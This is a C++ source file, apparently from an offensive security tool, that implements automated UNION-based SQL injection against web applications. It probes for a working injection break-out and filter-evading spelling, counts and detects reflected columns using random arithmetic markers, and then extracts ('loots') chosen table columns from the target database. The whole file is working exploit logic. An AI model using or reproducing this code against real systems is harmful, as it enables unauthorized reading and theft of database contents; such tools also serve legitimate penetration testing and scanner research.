#include "core/attack/union_query.h"

#include "core/attack/loot.h"
#include "core/base/random.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostColumns = 10;

// A text that only comes back when the database put it together: (4711+1)||(8080) gives 47128080.
struct Marker {
    std::string expression;
    std::string value;
};

Marker draw_marker(Random& random) {
    std::uint64_t const head = 1'000'000 + below(random, 8'000'000);
    std::string const tail = std::to_string(1000 + below(random, 8000));
    return {"(" + std::to_string(head - 1) + "+1)||(" + tail + ")", std::to_string(head) + tail};
}

std::string list_of(std::vector<std::size_t> const& indices) {
    std::string text;
    for (std::size_t i : indices) text += (text.empty() ? "" : ", ") + std::to_string(i + 1);
    return text;
}

}  // namespace

std::string UnionQuery::text(std::vector<std::string> const& expressions,
                             std::string_view table) const {
    std::string canonical = " UNION ALL SELECT ";
    for (std::size_t i = 0; i < expressions.size(); ++i) {
        if (shape_ == Shape::Select) {
            canonical += (i == 0 ? "" : ",") + expressions[i];
            continue;
        }
        std::string const from = table.empty() ? "" : " FROM " + std::string(table);
        canonical += i == 0 ? "* FROM (SELECT " : "JOIN (SELECT ";
        canonical += expressions[i] + from + " LIMIT 1)";
    }
    if (shape_ == Shape::Select && !table.empty()) canonical += " FROM " + std::string(table);
    // The frame's own parts are not spelled anew: they are known to get through.
    return break_.open + spelling_.write(canonical) + break_.tail;
}

bool UnionQuery::learn_shown() {
    std::vector<Marker> markers;
    std::vector<std::string> expressions;
    for (std::size_t i = 0; i < columns_; ++i) {
        markers.push_back(draw_marker(entry_->target().random()));
        expressions.push_back(markers.back().expression);
    }
    Answer const answer = entry_->send(text(expressions, ""));
    for (std::size_t i = 0; i < columns_; ++i) {
        if (answer.body.find(markers[i].value) != std::string::npos) shown_.push_back(i);
    }
    return !shown_.empty();
}

std::optional<UnionQuery> UnionQuery::find(Oracle const& oracle, std::vector<Break> const& breaks) {
    Entry& entry = oracle.entry();
    std::optional<Spelling> const spelling =
        find_spelling(oracle, "(SELECT max(41) FROM (SELECT 1 UNION ALL SELECT 2))");
    if (!spelling) return std::nullopt;
    for (Break const& each : breaks) {
        if (!Oracle::find(entry, each.chained())) continue;
        for (Shape shape : {Shape::Select, Shape::SelectJoined}) {
            for (std::size_t columns = 1; columns <= kMostColumns; ++columns) {
                UnionQuery query(entry, each, *spelling, shape, columns);
                if (!query.learn_shown()) continue;
                entry.target().note("The answer has " + std::to_string(columns) +
                                    " columns; shown: " + list_of(query.shown_) + ".");
                return query;
            }
        }
    }
    return std::nullopt;
}

Answer UnionQuery::select(std::string_view expression, std::string_view table) const {
    std::vector<std::string> expressions(columns_, "41||0");
    // The last shown one is rarely an id, which an app may turn into a number.
    std::size_t const at = shown_.size() > 1 ? shown_[1] : shown_[0];
    expressions[at] = expression;
    return entry_->send(text(expressions, table));
}

void UnionQuery::loot() const {
    Target& target = entry_->target();
    select("substr((" + target.puzzle() + "),1)", "");
    select("(" + target.puzzle() + ")", "");
    for (Column const& each : wanted_columns(target.surface())) {
        Answer const answer = select(each.column, each.table);
        if (answer.status == 200) target.note("Asked for " + each.table + "." + each.column + ".");
    }
}

}  // namespace parapet::attack
